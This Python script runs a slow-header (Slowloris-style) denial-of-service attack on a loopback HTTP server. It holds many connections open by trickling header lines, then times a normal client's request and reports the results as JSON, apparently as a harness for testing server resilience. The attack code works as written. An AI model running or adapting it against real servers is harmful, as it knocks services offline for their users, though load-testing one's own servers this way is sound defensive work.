#!/usr/bin/env python3
"""A slow-header attack on an HTTP server, and a normal client meanwhile.

    slow-headers.py --port P [--slow N] [--from ADDR] [--trickle S]
                    [--hold S] [--probe-at S] [--client-from ADDR]
                    [--path PATH]

Opens N connections from ADDR (bound as the source address: 127.0.0.2
and the rest of 127.0.0.0/8 are loopback too), each sending a request
line and one Host header, then one more header line every S seconds and
never the blank line that ends the head. At --probe-at seconds it sends
one complete GET PATH from --client-from on a fresh connection and times
the answer (5 s at most). Everything ends after --hold seconds. Prints
one JSON object:

    slow            connections attempted
    refused         connect() failed outright
    open_at_probe   slow connections the server still held at the probe
    closed          slow connections the server closed (or reset)
    first_close_s, last_close_s
                    when the server closed them, in seconds after each
                    connection's own start: min and max (null: none)
    probe_status    the normal client's HTTP status (0: no answer)
    probe_s         its wait for the whole answer, in seconds
"""
import argparse
import json
import resource
import select
import socket
import threading
import time


def probe(port, src, path, out):
    t0 = time.monotonic()
    status = 0
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=5,
                                     source_address=(src, 0))
        s.sendall(("GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                   "Connection: close\r\n\r\n" % path).encode())
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        line = data.split(b"\r\n", 1)[0].split()
        if len(line) >= 2 and line[1].isdigit():
            status = int(line[1])
    except OSError:
        pass
    out["probe_status"] = status
    out["probe_s"] = round(time.monotonic() - t0, 3)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--slow", type=int, default=1200)
    ap.add_argument("--from", dest="src", default="127.0.0.2")
    ap.add_argument("--trickle", type=float, default=1.0)
    ap.add_argument("--hold", type=float, default=3.0)
    ap.add_argument("--probe-at", type=float, default=1.5)
    ap.add_argument("--client-from", default="127.0.0.1")
    ap.add_argument("--path", default="/info/?user_id=probe")
    a = ap.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = a.slow + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))

    start = time.monotonic()
    conns = {}	# fd -> [socket, start time, last send]
    refused = 0
    poller = select.poll()
    for i in range(a.slow):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((a.src, 0))
            s.settimeout(5)
            s.connect(("127.0.0.1", a.port))
            s.sendall(b"GET /info/?user_id=slow HTTP/1.1\r\nHost: 127.0.0.1\r\n")
            s.setblocking(False)
        except OSError:
            refused += 1
            s.close()
            continue
        now = time.monotonic()
        conns[s.fileno()] = [s, now, now]
        poller.register(s.fileno(), select.POLLIN)

    out = {"slow": a.slow, "refused": refused, "open_at_probe": None}
    closes = []
    prober = None
    n = 0
    while time.monotonic() - start < a.hold:
        now = time.monotonic()
        if prober is None and now - start >= a.probe_at:
            out["open_at_probe"] = len(conns)
            prober = threading.Thread(target=probe, args=(a.port,
                                      a.client_from, a.path, out))
            prober.start()
        r = poller.poll(50)
        for fd, _ in r:
            if fd not in conns:
                continue
            s, t0, _ = conns[fd]
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if data:
                continue	# an answer (408, 400): the close follows
            closes.append(time.monotonic() - t0)
            poller.unregister(fd)
            s.close()
            del conns[fd]
        for fd, c in list(conns.items()):
            if time.monotonic() - c[2] >= a.trickle:
                n += 1
                try:
                    c[0].send(b"X-Slow-%d: y\r\n" % n)
                    c[2] = time.monotonic()
                except OSError:
                    pass	# noticed as a close by select
    if prober is not None:
        prober.join(6)
    else:
        out["probe_status"], out["probe_s"] = 0, None
    out["closed"] = len(closes)
    out["first_close_s"] = round(min(closes), 3) if closes else None
    out["last_close_s"] = round(max(closes), 3) if closes else None
    for c in conns.values():
        c[0].close()
    print(json.dumps(out, sort_keys=True))


main()
